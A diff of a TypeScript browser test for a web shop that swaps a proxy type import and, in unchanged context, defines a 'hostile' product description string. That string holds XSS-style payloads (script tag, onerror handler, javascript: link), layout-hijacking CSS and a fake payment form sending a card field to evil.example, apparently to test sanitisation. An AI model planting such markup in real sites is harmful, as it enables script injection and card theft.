@@ -1,14 +1,15 @@
 import { afterAll, beforeAll, expect, test } from 'vitest';
-import { type ApiProxy, startApiProxy } from '#tests/support/browser/api-proxy.ts';
+import { startApiProxy } from '#tests/support/browser/api-proxy.ts';
 import { smallShop } from '#tests/support/browser/shared-shops.ts';
 import { newDataDir, type RunningShop, startShop } from '#tests/support/browser/shop-server.ts';
 import { desktop, openPage } from '#tests/support/browser/test-page.ts';
+import type { LoopbackServer } from '#tests/support/listen-on-loopback.ts';
 
 const hostile = `<p>Soft cotton.</p><script>document.title='taken over'</script><img src=x onerror="document.title='taken over'">
   <style>.site-header{display:none}</style><form action="https://evil.example"><input name=card><button>Pay</button></form>
   <a href="javascript:document.title='taken over'" class="button primary">Buy</a><h1 id=content style="position:fixed">Sale</h1></div></main>`;
 
-let proxy: ApiProxy;
+let proxy: LoopbackServer;
 let site: RunningShop;
 /** The remote store's reply to facets. */
 let facets: (reply: unknown) => unknown = () => 404;
